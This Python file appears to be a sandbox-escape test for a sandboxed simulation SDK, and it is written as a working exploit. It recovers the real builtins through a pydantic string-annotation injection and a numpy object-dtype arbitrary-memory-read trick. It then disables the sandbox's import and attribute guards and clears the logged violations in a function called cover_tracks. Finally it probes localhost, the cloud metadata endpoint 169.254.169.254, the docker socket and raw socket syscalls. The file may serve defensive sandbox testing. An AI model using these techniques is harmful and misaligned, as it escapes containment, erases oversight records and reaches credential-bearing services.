# expect: runtime
# Reach a local service (an HTTP MCP server on 127.0.0.1, a metadata endpoint, a unix socket): socket objects from
# socket / _socket (the replaced constructors and the class itself), to 127.0.0.1, localhost, ::1, a unix socket and
# an abstract one, and the raw socket syscall.
import math

import numpy as np
import sim

loot = {}


def note(label, step):
    """Run one attempt; keep a short line on what it gave."""
    try:
        value = step()
    except BaseException as exc:
        loot[label] = 'no ' + repr(exc).replace('PermissionError', 'PE')[:60]
        return None
    loot[label] = 'GOT ' + (f'dict of {len(value)}' if isinstance(value, dict) else repr(value)[:90])
    return value


def builtins_via_annotation():
    """pydantic evaluates a string annotation of a model subclass with the real builtins."""
    payload = "__import__('sys').modules['math'].__dict__.__setitem__('stash', __builtins__) or 'int'"
    for base in (lambda: sim.SceneSpec, lambda: type(sim.on('a', 'b')), lambda: type(sim.Scene('pick_place').spec())):
        try:
            class Probe(base()):
                probe: payload = None
        except BaseException:
            pass
        try:
            return math.stash
        except AttributeError:
            pass
    raise LookupError('no SDK class took the string annotation')


def builtins_via_numpy():
    """An object-dtype ndarray over a raw buffer turns any address into an object: fake a bytearray spanning all of
    memory, read a trusted function's func_builtins pointer, and turn that into the real builtins dict."""
    def object_at(address):
        return np.ndarray((1,), dtype=object, buffer=bytearray(address.to_bytes(8, 'little')))[0]

    fake = b''.join(n.to_bytes(8, 'little') for n in (1 << 40, id(bytearray), 1 << 62, 0, 0, 0, 0))
    memory = object_at(id(fake) + 32)
    if type(sim.place) is not type(note):
        return None
    return object_at(int.from_bytes(bytes(memory[id(sim.place) + 24:id(sim.place) + 32]), 'little'))


def escape():
    """(real builtins, the sandbox's child module) with the Python guards switched off, or (None, None)."""
    real = note('builtins via pydantic annotation', builtins_via_annotation) or note(
        'builtins via numpy object dtype', builtins_via_numpy)
    if not isinstance(real, dict) or '__import__' not in real:
        return None, None
    child = real['__import__']('sys').modules['sim.sandbox.child']
    for rule in ('_event_problem', 'import_problem', 'attribute_problem'):
        real['setattr'](child, rule, lambda *args, **kwargs: None)
    return real, child


def cover_tracks(real, child):
    """Forget the violations the guards recorded before they were switched off."""
    if real is not None:
        for entry in real['getattr'](child, '_PREPARED').values():
            entry[1].clear()


def report():
    """What worked first (the error message is cut at 500 characters)."""
    return repr(sorted(loot.items(), key=lambda item: not item[1].startswith('GOT')))


real, child = escape()
if real is not None:
    sysm = real['__import__']('sys')
    raw = sysm.modules.get('_socket') or note('import _socket', lambda: real['__import__']('_socket'))
    sock = sysm.modules.get('socket') or note('import socket', lambda: real['__import__']('socket'))
    for label, family, address in (('127.0.0.1:8000', 2, ('127.0.0.1', 8000)), ('localhost:80', 2, ('localhost', 80)),
                                   ('[::1]:8000', 10, ('::1', 8000)), ('169.254.169.254', 2, ('169.254.169.254', 80)),
                                   ('unix docker', 1, '/var/run/docker.sock'), ('unix abstract', 1, '\0coda')):
        if raw is not None:
            note('_socket.socket ' + label, lambda: raw.socket(family, 1).connect(address))
            note('SocketType ' + label, lambda: raw.SocketType(family, 1).connect(address))
        if sock is not None:
            note('create_connection ' + label, lambda: sock.create_connection(address, timeout=0.2))
    ctypes = sysm.modules.get('ctypes')
    if ctypes is not None:
        libc = ctypes.CDLL(None, use_errno=True)
        note('syscall socket', lambda: (libc.syscall(41, 2, 1, 0), ctypes.get_errno()))
        note('syscall socketpair', lambda: (libc.syscall(53, 1, 1, 0, 0), ctypes.get_errno()))
    cover_tracks(real, child)
raise RuntimeError('socket attempts: ' + report())
